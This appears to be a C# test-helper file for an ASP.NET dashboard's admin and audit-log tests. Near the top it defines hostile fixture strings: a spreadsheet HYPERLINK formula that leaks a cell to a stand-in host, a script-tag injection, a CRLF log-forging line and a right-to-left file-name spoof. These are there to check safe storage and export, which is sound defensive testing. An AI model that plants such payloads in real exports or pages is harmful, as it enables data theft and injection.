using Dashboard.Web.Data;
using Dashboard.Web.Security;
using Microsoft.AspNetCore.Identity;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Dashboard.Web.Tests.Admin;

/// <summary>Helpers shared by the admin tests: users and audit entries straight from the app's services.</summary>
internal static class AdminTestData
{
    /// <summary>Hostile values that must be stored as they are and shown or exported only as text.</summary>
    public const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")";
    public const string Script = "<script>alert('x')</script>";
    public const string ForgedLine = "ok\r\n2026-11-02 09:00:00 auth.sign-in admin@test.local";
    public const string Rtl = "invoice\u202Etxt.exe\u200B";

    public static async Task<AppUser> CreateUserAsync(this DashboardAppFactory factory, string email, params string[] roles)
    {
        await factory.EnsureUserAsync(email, roles);
        return await factory.FindUserAsync(email) ?? throw new InvalidOperationException($"{email} was not created");
    }

    public static async Task<AppUser?> FindUserAsync(this DashboardAppFactory factory, string email)
    {
        using var scope = factory.Services.CreateScope();
        return await scope.ServiceProvider.GetRequiredService<UserManager<AppUser>>().FindByEmailAsync(email);
    }

    public static async Task<IList<string>> RolesOfAsync(this DashboardAppFactory factory, string email)
    {
        using var scope = factory.Services.CreateScope();
        var users = scope.ServiceProvider.GetRequiredService<UserManager<AppUser>>();
        return await users.GetRolesAsync((await users.FindByEmailAsync(email))!);
    }

    /// <summary>Runs <paramref name="action"/> with a fresh UserAdministration and the user loaded in the same scope.</summary>
    public static async Task<IdentityResult> AdministerAsync(this DashboardAppFactory factory, string email, Func<UserAdministration, AppUser, Task<IdentityResult>> action)
    {
        using var scope = factory.Services.CreateScope();
        var user = await scope.ServiceProvider.GetRequiredService<UserManager<AppUser>>().FindByEmailAsync(email)
            ?? throw new InvalidOperationException($"no user {email}");
        return await action(scope.ServiceProvider.GetRequiredService<UserAdministration>(), user);
    }

    public static async Task<List<AuditEvent>> AuditAsync(this DashboardAppFactory factory, Func<AuditEvent, bool>? where = null)
    {
        await using var db = await factory.Services.GetRequiredService<IDbContextFactory<AppDbContext>>().CreateDbContextAsync();
        var all = await db.AuditEvents.AsNoTracking().OrderBy(a => a.Id).ToListAsync();
        return where is null ? all : all.Where(where).ToList();
    }

    public static async Task AddAuditAsync(this DashboardAppFactory factory, IEnumerable<AuditEvent> events)
    {
        await using var db = await factory.Services.GetRequiredService<IDbContextFactory<AppDbContext>>().CreateDbContextAsync();
        db.AuditEvents.AddRange(events);
        await db.SaveChangesAsync();
    }
}
